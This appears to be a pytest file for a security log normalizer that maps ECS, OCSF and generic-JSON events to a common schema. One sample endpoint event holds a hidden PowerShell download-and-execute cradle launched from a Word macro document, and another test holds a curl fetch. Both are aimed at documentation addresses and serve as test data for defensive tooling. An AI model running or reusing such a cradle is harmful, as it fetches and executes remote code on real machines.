"""ECS, OCSF and generic-JSON normalizers on realistic hand-written documents, field by field."""

from __future__ import annotations

import copy
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from bastion.ingest.normalize import NORMALIZERS, NormalizeError, detect_format, normalize
from bastion.ingest.normalize.generic import GenericMapping, normalize_generic, register_mapping, to_epoch_ms
from bastion.model import EventClass, Severity


def _ms(iso: str) -> int:
    return (datetime.fromisoformat(iso) - datetime(1970, 1, 1, tzinfo=UTC)) // timedelta(milliseconds=1)


ENDPOINT_PROCESS: dict[str, Any] = {
    "@timestamp": "2023-03-14T09:26:53.512Z",
    "agent": {"type": "endpoint", "version": "8.6.2", "id": "6f1e4a39-6a44-4bd7-9a2d-0d0b9e2b1d55"},
    "ecs": {"version": "8.6.0"},
    "data_stream": {"dataset": "endpoint.events.process", "namespace": "default", "type": "logs"},
    "event": {
        "kind": "event",
        "category": ["process"],
        "type": ["start"],
        "action": "start",
        "dataset": "endpoint.events.process",
        "module": "endpoint",
        "id": "MoP4kGAq2ouMc6Ub+++++Dzk",
        "created": "2023-03-14T09:26:53.512Z",
    },
    "host": {
        "hostname": "WKS-0042",
        "name": "wks-0042.corp.example.com",
        "id": "4c1fd5a4-21b3-4d1b-8a5f-3a6b9c1d2e3f",
        "ip": ["10.1.2.3", "fe80::9d2c:1:2:3"],
        "os": {"name": "Windows 10 Enterprise", "type": "windows", "platform": "windows"},
        "domain": "CORP",
    },
    "user": {"name": "alice", "domain": "CORP", "id": "S-1-5-21-1004336348-1177238915-682003330-1105"},
    "process": {
        "pid": 4412,
        "entity_id": "NGMxZmQ1YTQtMjFiMy00ZDFiLThhNWYtM2E2YjljMWQyZTNmLTQ0MTI=",
        "name": "powershell.exe",
        "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "command_line": 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient)'
        ".DownloadString('http://198.51.100.7/a.ps1')\"",
        "hash": {
            "md5": "7353F60B1739074EB17C5F4DDDEFE239",
            "sha1": "6CBCE4A295C163791B60FC23D285E6D84F28EE4C",
            "sha256": "DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C",
        },
        "parent": {
            "pid": 2208,
            "name": "WINWORD.EXE",
            "executable": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "command_line": '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" '
            "/n invoice.docm",
        },
        "user": {"name": "alice", "domain": "CORP"},
    },
    "message": "Endpoint process event",
}

NETWORK_FLOW_DOTTED: dict[str, Any] = {
    "@timestamp": "2023-03-14T10:27:01.250+01:00",
    "ecs.version": "8.6.0",
    "event.kind": "event",
    "event.category": ["network"],
    "event.type": ["connection", "end"],
    "event.dataset": "zeek.connection",
    "event.module": "zeek",
    "event.id": "CHhAvVGS1DHFjwGM9",
    "source.ip": "10.1.2.3",
    "source.port": 49822,
    "destination.address": "203.0.113.50",
    "destination.ip": "203.0.113.50",
    "destination.port": 443,
    "destination.domain": "cdn.bad-example.net",
    "network.transport": "tcp",
    "network.bytes": 48211,
    "related.ip": ["10.1.2.3", "203.0.113.50"],
    "observer": {"vendor": "Zeek", "product": "zeek", "hostname": "sensor-1"},
    "log.level": "warning",
}


def test_ecs_endpoint_process_event() -> None:
    assert detect_format(ENDPOINT_PROCESS) == "ecs"
    event = normalize(ENDPOINT_PROCESS)
    assert event.format == "ecs"
    assert event.class_uid == EventClass.PROCESS_ACTIVITY
    assert event.time == _ms("2023-03-14T09:26:53.512+00:00")
    assert event.severity_id == Severity.UNKNOWN
    assert event.message == "Endpoint process event"
    meta = event.metadata
    assert (meta.product, meta.log_name, meta.uid) == (
        "endpoint",
        "endpoint.events.process",
        "MoP4kGAq2ouMc6Ub+++++Dzk",
    )
    assert meta.original_time == "2023-03-14T09:26:53.512Z"
    device = event.device
    assert (device.hostname, device.ip, device.os, device.domain) == (
        "WKS-0042",
        "10.1.2.3",
        "Windows 10 Enterprise",
        "CORP",
    )
    assert device.uid == "4c1fd5a4-21b3-4d1b-8a5f-3a6b9c1d2e3f"
    assert (event.actor.user.name, event.actor.user.domain) == ("alice", "CORP")
    assert event.actor.user.uid.startswith("S-1-5-21-")
    process = event.process
    assert (process.name, process.pid) == ("powershell.exe", 4412)
    assert process.path == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    assert "DownloadString('http://198.51.100.7/a.ps1')" in process.cmd_line
    assert process.uid == ENDPOINT_PROCESS["process"]["entity_id"]
    assert process.user.name == "alice"
    parent = process.parent_process
    assert (parent.name, parent.pid) == ("WINWORD.EXE", 2208)
    assert parent.cmd_line.endswith("/n invoice.docm")
    # ECS puts the image hashes on process.hash; we keep them as the event's file
    assert event.file.path == process.path
    assert event.file.hashes == {
        "md5": "7353f60b1739074eb17c5f4dddefe239",
        "sha1": "6cbce4a295c163791b60fc23d285e6d84f28ee4c",
        "sha256": "de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c",
    }
    assert event.src_endpoint is None and event.dst_endpoint is None
    assert event.raw is ENDPOINT_PROCESS


def test_ecs_network_flow_with_dotted_keys() -> None:
    assert detect_format(NETWORK_FLOW_DOTTED) == "ecs"
    event = normalize(NETWORK_FLOW_DOTTED)
    assert event.class_uid == EventClass.NETWORK_ACTIVITY
    assert event.time == _ms("2023-03-14T09:27:01.250+00:00")  # +01:00 offset honoured
    assert event.severity_id == Severity.MEDIUM  # log.level warning
    assert (event.metadata.product, event.metadata.vendor) == ("zeek", "Zeek")
    assert (event.metadata.log_name, event.metadata.uid) == ("zeek.connection", "CHhAvVGS1DHFjwGM9")
    assert (event.src_endpoint.ip, event.src_endpoint.port) == ("10.1.2.3", 49822)
    dst = event.dst_endpoint
    assert (dst.ip, dst.port, dst.hostname) == ("203.0.113.50", 443, "cdn.bad-example.net")
    assert event.process is None and event.actor is None


def test_ecs_dns_alert_and_severity_scale() -> None:
    dns = {
        "@timestamp": 1678786021000,
        "event": {"category": "network", "type": ["protocol"], "dataset": "zeek.dns"},
        "dns": {"question": {"name": "xn--80ak6aa92e.com", "type": "A"}},
        "source": {"ip": "10.1.2.3"},
    }
    event = normalize(dns)
    assert event.class_uid == EventClass.DNS_ACTIVITY
    assert event.time == 1678786021000
    assert event.query == "xn--80ak6aa92e.com"
    alert = {
        "@timestamp": "2023-03-14T09:30:00Z",
        "event": {"kind": "alert", "category": ["malware", "file"], "severity": 73},
        "file": {
            "path": "C:\\Users\\alice\\AppData\\Local\\Temp\\inv.exe",
            "name": "inv.exe",
            "hash": {"sha256": "A" * 64},
        },
        "registry": {"hive": "HKLM", "key": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"},
    }
    event = normalize(alert)
    assert event.class_uid == EventClass.DETECTION_FINDING
    assert event.severity_id == Severity.HIGH
    assert event.file.name == "inv.exe" and event.file.hashes == {"sha256": "a" * 64}
    assert event.registry_key == "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"


OCSF_AUTH: dict[str, Any] = {
    "class_uid": 3002,
    "class_name": "Authentication",
    "category_uid": 3,
    "activity_id": 1,
    "type_uid": 300201,
    "time": 1699999999123,
    "severity_id": 3,
    "status_id": 2,
    "status": "Failure",
    "message": "User login to Okta failed: INVALID_CREDENTIALS",
    "metadata": {
        "version": "1.1.0",
        "product": {"name": "Okta System Log", "vendor_name": "Okta"},
        "uid": "8f7cd3c0-8363-11ee-b962-0242ac120002",
        "log_name": "System Log",
        "event_code": "user.session.start",
        "original_time": "2023-11-14T22:13:19.123Z",
    },
    "user": {
        "name": "alice@corp.example.com",
        "uid": "00u1abcdEFGH",
        "type_id": 1,
        "email_addr": "alice@corp.example.com",
    },
    "src_endpoint": {"ip": "198.51.100.23", "port": 51544, "location": {"country": "NL"}},
    "dst_endpoint": {"hostname": "corp.okta.com", "svc_name": "okta"},
    "auth_protocol": "SAML",
    "auth_protocol_id": 5,
    "is_mfa": False,
    "observables": [
        {"name": "src_endpoint.ip", "type_id": 2, "value": "198.51.100.23"},
        {"name": "user.name", "type_id": 4, "value": "alice@corp.example.com"},
    ],
}

OCSF_NETWORK: dict[str, Any] = {
    "class_uid": 4001,
    "category_uid": 4,
    "activity_id": 6,
    "type_uid": 400106,
    "time": 1700000500000,
    "severity_id": 1,
    "metadata": {"version": "1.1.0", "product": {"name": "Amazon VPC", "vendor_name": "AWS"}},
    "src_endpoint": {"ip": "10.0.0.5", "port": 34522, "instance_uid": "i-0abc1234def567890"},
    "dst_endpoint": {"ip": "2001:db8::7", "port": 22},
    "connection_info": {"protocol_num": 6, "direction_id": 2},
    "traffic": {"bytes": 4032, "packets": 12},
    "device": {
        "hostname": "ip-10-0-0-5.ec2.internal",
        "ip": "10.0.0.5",
        "os": {"name": "Amazon Linux", "type_id": 200},
    },
    "actor": {
        "process": {
            "pid": 911,
            "name": "ssh",
            "cmd_line": "ssh admin@2001:db8::7",
            "file": {
                "path": "/usr/bin/ssh",
                "name": "ssh",
                "type_id": 1,
                "hashes": [{"algorithm_id": 3, "value": "B" * 64}, {"algorithm": "MD5", "value": "C" * 32}],
            },
            "user": {"name": "ec2-user", "uid": "1000"},
            "parent_process": {"pid": 1, "name": "systemd"},
        }
    },
    "unmapped": {"vpc_id": "vpc-0123"},
}


def test_ocsf_authentication() -> None:
    assert detect_format(OCSF_AUTH) == "ocsf"
    event = normalize(OCSF_AUTH)
    assert event.format == "ocsf"
    assert event.class_uid == EventClass.AUTHENTICATION
    assert event.time == 1699999999123
    assert event.severity_id == Severity.MEDIUM
    assert event.message.startswith("User login to Okta failed")
    meta = event.metadata
    assert (meta.product, meta.vendor, meta.log_name) == ("Okta System Log", "Okta", "System Log")
    assert (meta.event_code, meta.uid) == ("user.session.start", "8f7cd3c0-8363-11ee-b962-0242ac120002")
    assert meta.original_time == "2023-11-14T22:13:19.123Z"
    user = event.actor.user  # the account authenticating
    assert (user.name, user.uid, user.email_addr) == (
        "alice@corp.example.com",
        "00u1abcdEFGH",
        "alice@corp.example.com",
    )
    assert (event.src_endpoint.ip, event.src_endpoint.port) == ("198.51.100.23", 51544)
    assert event.dst_endpoint.hostname == "corp.okta.com"
    assert event.raw is OCSF_AUTH


def test_ocsf_network_activity() -> None:
    event = normalize(OCSF_NETWORK)
    assert event.class_uid == EventClass.NETWORK_ACTIVITY
    assert event.time == 1700000500000
    assert event.severity_id == Severity.INFORMATIONAL
    assert (event.metadata.product, event.metadata.vendor) == ("Amazon VPC", "AWS")
    assert (event.src_endpoint.ip, event.src_endpoint.port) == ("10.0.0.5", 34522)
    assert (event.dst_endpoint.ip, event.dst_endpoint.port) == ("2001:db8::7", 22)
    assert (event.device.hostname, event.device.ip, event.device.os) == (
        "ip-10-0-0-5.ec2.internal",
        "10.0.0.5",
        "Amazon Linux",
    )
    process = event.actor.process
    assert (process.name, process.pid, process.path, process.cmd_line) == (
        "ssh",
        911,
        "/usr/bin/ssh",
        "ssh admin@2001:db8::7",
    )
    assert process.user.name == "ec2-user"
    assert process.parent_process.name == "systemd"
    assert event.actor.user is None
    assert event.process is None
    assert (event.action, event.action_id) == (None, 0)
    denied = normalize({**OCSF_NETWORK, "action": "Denied", "action_id": 2})
    assert (denied.action, denied.action_id) == ("Denied", 2)
    worded = normalize({**OCSF_NETWORK, "action": "Allowed", "action_id": 7})  # out of range: read the word
    assert worded.action_id == 1


def test_ocsf_hashes_and_bad_class() -> None:
    doc = {
        "class_uid": 1001,
        "time": "2023-11-14T22:13:19Z",
        "severity_id": 99,
        "file": {
            "name": "x.bin",
            "path": "/tmp/x.bin",
            "hashes": [{"algorithm_id": 1, "value": "D" * 32}, {"algorithm_id": 2, "value": "E" * 40}],
        },
    }
    event = normalize(doc)
    assert event.class_uid == EventClass.FILE_ACTIVITY
    assert event.time == _ms("2023-11-14T22:13:19+00:00")
    assert event.severity_id == Severity.OTHER
    assert event.file.hashes == {"md5": "d" * 32, "sha1": "e" * 40}
    with pytest.raises(NormalizeError, match="class_uid"):
        normalize({"class_uid": "x"}, "ocsf")


def test_to_epoch_ms() -> None:
    assert to_epoch_ms(1700000000) == 1700000000000  # seconds
    assert to_epoch_ms(1700000000.25) == 1700000000250
    assert to_epoch_ms(1700000000123) == 1700000000123  # milliseconds
    assert to_epoch_ms(1700000000123456) == 1700000000123  # microseconds
    assert to_epoch_ms(1700000000123456789) == 1700000000123  # nanoseconds
    assert to_epoch_ms("1700000000") == 1700000000000
    assert to_epoch_ms("2023-11-14T22:13:20Z") == 1700000000000
    assert to_epoch_ms("2023-11-14T23:13:20.5+01:00") == 1700000000500
    assert to_epoch_ms("2023-11-14 22:13:20") == 1700000000000  # no offset: UTC
    assert to_epoch_ms("2015-07-15T20:35:13.2757294") == _ms("2015-07-15T20:35:13.275729+00:00")
    assert to_epoch_ms("2023-11-14T22:13:20.123456789Z") == 1700000000123
    assert to_epoch_ms("14/11/2023 22:13", "%d/%m/%Y %H:%M") == 1699999980000
    assert to_epoch_ms("1700000000", "s") == 1700000000000
    assert to_epoch_ms(1700000000123456, "us") == 1700000000123
    assert to_epoch_ms("yesterday") is None
    assert to_epoch_ms(None) is None and to_epoch_ms(True) is None


def test_generic_default_mapping() -> None:
    record = {
        "timestamp": "2023-11-14T22:13:20Z",
        "src_ip": "192.0.2.10",
        "dst_ip": "203.0.113.9",
        "dst_port": "8443",
        "user": "bob",
        "hostname": "web-01",
        "msg": "login failed",
        "level": "warning",
        "url": "https://example.org/login",
        "sha256": "F" * 64,
    }
    assert detect_format(record) == "generic"
    event = normalize(record)
    assert event.format == "generic"
    assert event.time == 1700000000000
    assert event.metadata.original_time == "2023-11-14T22:13:20Z"
    assert (event.src_endpoint.ip, event.dst_endpoint.ip, event.dst_endpoint.port) == (
        "192.0.2.10",
        "203.0.113.9",
        8443,
    )
    assert event.actor.user.name == "bob" and event.device.hostname == "web-01"
    assert event.message == "login failed" and event.severity_id == Severity.MEDIUM
    assert event.url.url_string == "https://example.org/login"
    assert event.file.hashes == {"sha256": "F" * 64}
    assert event.raw is record
    # lenient: a value of the wrong type is skipped, a record without a time keeps time=0 for the caller
    loose = normalize({"src_port": "not-a-port", "msg": "x", "severity": "bogus"})
    assert loose.time == 0 and loose.src_endpoint is None and loose.severity_id == Severity.UNKNOWN


def test_generic_custom_mapping_and_times() -> None:
    mapping = GenericMapping(
        fields={
            "time": "meta.ts",
            "src_endpoint.ip": "net.client.addr",
            "src_endpoint.port": "net.client.port",
            "actor.user.name": ["who.login", "who.uid"],
            "process.cmd_line": "exec.cmd",
            "severity_id": "prio",
            "metadata.product": "app",
        },
        class_uid=EventClass.PROCESS_ACTIVITY,
    )
    seconds = {
        "meta": {"ts": 1700000000},
        "net": {"client": {"addr": "192.0.2.1", "port": 5555}},
        "who": {"uid": "u-42"},
        "exec": {"cmd": "curl http://192.0.2.99/x"},
        "prio": "high",
        "app": "myapp",
    }
    event = normalize_generic(seconds, mapping)
    assert event.time == 1700000000000
    assert (event.src_endpoint.ip, event.src_endpoint.port) == ("192.0.2.1", 5555)
    assert event.actor.user.name == "u-42"  # the first present alternative
    assert event.process.cmd_line == "curl http://192.0.2.99/x"
    assert event.severity_id == Severity.HIGH and event.class_uid == EventClass.PROCESS_ACTIVITY
    dotted = {"meta.ts": 1700000000123, "net": {"client.addr": "192.0.2.1"}, "prio": 4}
    event = normalize_generic(dotted, mapping)
    assert event.time == 1700000000123 and event.src_endpoint.ip == "192.0.2.1"
    iso = {"meta": {"ts": "2023-11-14T23:13:20+01:00"}}
    assert normalize_generic(iso, mapping).time == 1700000000000
    # strict mappings say what was wrong
    with pytest.raises(NormalizeError, match=r"net\.client\.port"):
        normalize_generic({"net": {"client": {"port": "eighty"}}}, mapping)
    with pytest.raises(NormalizeError, match="JSON object"):
        normalize_generic(["not", "a", "dict"], mapping)


def test_register_named_mapping() -> None:
    fmt = register_mapping(
        "testapp", GenericMapping(fields={"time": "when", "message": "text"}, time_format="ms")
    )
    assert fmt == "generic:testapp" and fmt in NORMALIZERS
    event = normalize({"when": "1700000000999", "text": "hello"}, fmt)
    assert (event.format, event.time, event.message) == ("generic:testapp", 1700000000999, "hello")
    with pytest.raises(NormalizeError, match="not Event fields"):
        register_mapping("broken", GenericMapping(fields={"nonsense.path": "x"}))


def test_ecs_and_ocsf_do_not_mutate_input() -> None:
    for doc in (ENDPOINT_PROCESS, NETWORK_FLOW_DOTTED, OCSF_AUTH, OCSF_NETWORK):
        before = copy.deepcopy(doc)
        normalize(doc)
        assert doc == before
